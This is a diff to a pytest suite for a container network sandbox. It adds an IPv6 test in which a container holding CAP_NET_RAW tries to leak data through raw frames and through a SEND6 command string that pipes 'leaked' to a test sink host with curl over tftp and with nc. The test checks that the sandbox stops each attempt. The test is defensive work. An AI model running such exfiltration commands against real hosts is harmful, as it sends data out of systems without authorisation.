@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+import shlex
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -9,7 +11,7 @@ import pytest
 
 from lab import plan
 from lab.daemon import running
-from lab.engine import IMAGE, MACHINE, SANDGATE
+from lab.engine import CONTAINERS6, IMAGE, MACHINE, SANDGATE
 from lab.guarded import (
     DIRECTLY,
     SEND,
@@ -21,6 +23,7 @@ from lab.guarded import (
     show_leak,
 )
 from lab.internet import Internet
+from lab.page_commands import TRY, Shell, block, holds
 from lab.podman import Podman, is_installed, podman
 from lab.processes import wait_until
 from lab.sandgate import allowing
@@ -123,6 +126,67 @@ def test_attacks_with_raw_sockets(internet: Internet, engine: Podman, guarded: G
     attack_with_raw_sockets(engine, sandbox)
     assert internet.sinks.data() == ""
     assert reaches(engine, sandbox, plan.ALLOWED)
+
+
+SEND6 = f"curl -s -m 1 tftp://[{plan.SINK6}]:4444/leaked; echo leaked | nc -w 1 {plan.SINK6} 4444"
+
+
+@pytest.fixture(scope="module")
+def network6(engine: Podman) -> tuple[str, str]:
+    """A network with IPv6, as `podman network create --ipv6` makes it: its name, and the hardware address of its bridge."""
+    engine.docker("network", "create", "--ipv6", "--subnet", "10.82.0.0/24", "--subnet", CONTAINERS6, "six")
+    return "six", engine.docker("network", "inspect", "--format", "{{.NetworkInterface}}", "six")
+
+
+@pytest.mark.attack(
+    "N3 N4 T1 T10",
+    "sends by IPv6 to names and addresses, and frames behind the hooks, in a Podman network that has it, with CAP_NET_RAW",
+    stopped_by="dns, kernel, fence",
+)
+def test_network_with_ipv6(internet: Internet, engine: Podman, network6: tuple[str, str]) -> None:
+    network, bridge = network6
+    raw = (*WITH_ATTACKS, "--cap-add", "NET_RAW")
+
+    def attack(container: str) -> None:
+        neighbour = engine.namespace.check("cat", f"/sys/class/net/{bridge}/address").strip()
+        for is_ipv6 in (False, True):
+            attack_with_raw_sockets(engine, container, neighbour, is_ipv6)
+        engine.run(container, "/bin/busybox", "sh", "-c", SEND6)
+
+    free = engine.start("--network", network, *raw, image=MACHINE)
+    for version in ("-4", "-6"):
+        wait_until(lambda: reaches(engine, free, plan.DENIED, version), f"{version} without a sidecar")
+    attack(free)
+    arrived = [(a.data, ":" in a.peer) for a in internet.sinks.arrivals()]
+    for words in ("stolen by a frame", "stolen by a mark"):
+        assert {is_ipv6 for data, is_ipv6 in arrived if words in data} == {False, True}, "without a sidecar"
+    assert {is_ipv6 for data, is_ipv6 in arrived if "leaked" in data} == {True}, "without a sidecar"
+    engine.remove(free)
+    internet.forget()
+    options = ("--network", network, "--cap-add", "NET_RAW", *READ_ONLY)
+    guarded = Guarded(internet, engine, allowing(plan.ALLOWED), *options)
+    try:
+        sandbox = guarded.sandbox(*raw, image=MACHINE)
+        for version, address in (("-4", plan.DENIED4), ("-6", f"[{plan.DENIED6}]")):
+            assert reaches(engine, sandbox, plan.ALLOWED, version), guarded.log
+            assert not reaches(engine, sandbox, plan.DENIED, version)
+            assert not reaches(engine, sandbox, plan.DENIED, version, *pinned(plan.DENIED, address))
+            assert not reaches(engine, sandbox, plan.OTHER, version)
+        attack(sandbox)
+        assert reaches(engine, sandbox, plan.ALLOWED, "-6")
+        assert internet.web.hosts() == {plan.ALLOWED} and internet.sinks.data() == ""
+    finally:
+        guarded.remove()
+
+
+def test_page(internet: Internet, engine: Podman, tmp_path: Path) -> None:
+    """Its commands, as they stand."""
+    (tmp_path / "policy.yaml").write_text(json.dumps(allowing(plan.ALLOWED)))
+    with running(internet, tmp_path) as daemon:
+        shell = Shell(tmp_path, daemon, podman=shlex.join((*engine.on_the_machine, "/usr/bin/podman")))
+        text = block("Containers.md", "sandgate attach --create").replace("/run/sandgate", str(tmp_path / "run"))
+        output = shell.run(text, {"IMAGE COMMAND": f"{IMAGE} {TRY}"})
+        assert holds(internet, output), output
 
 
 def test_image_refuses_to_start_without_its_capabilities(engine: Podman) -> None:
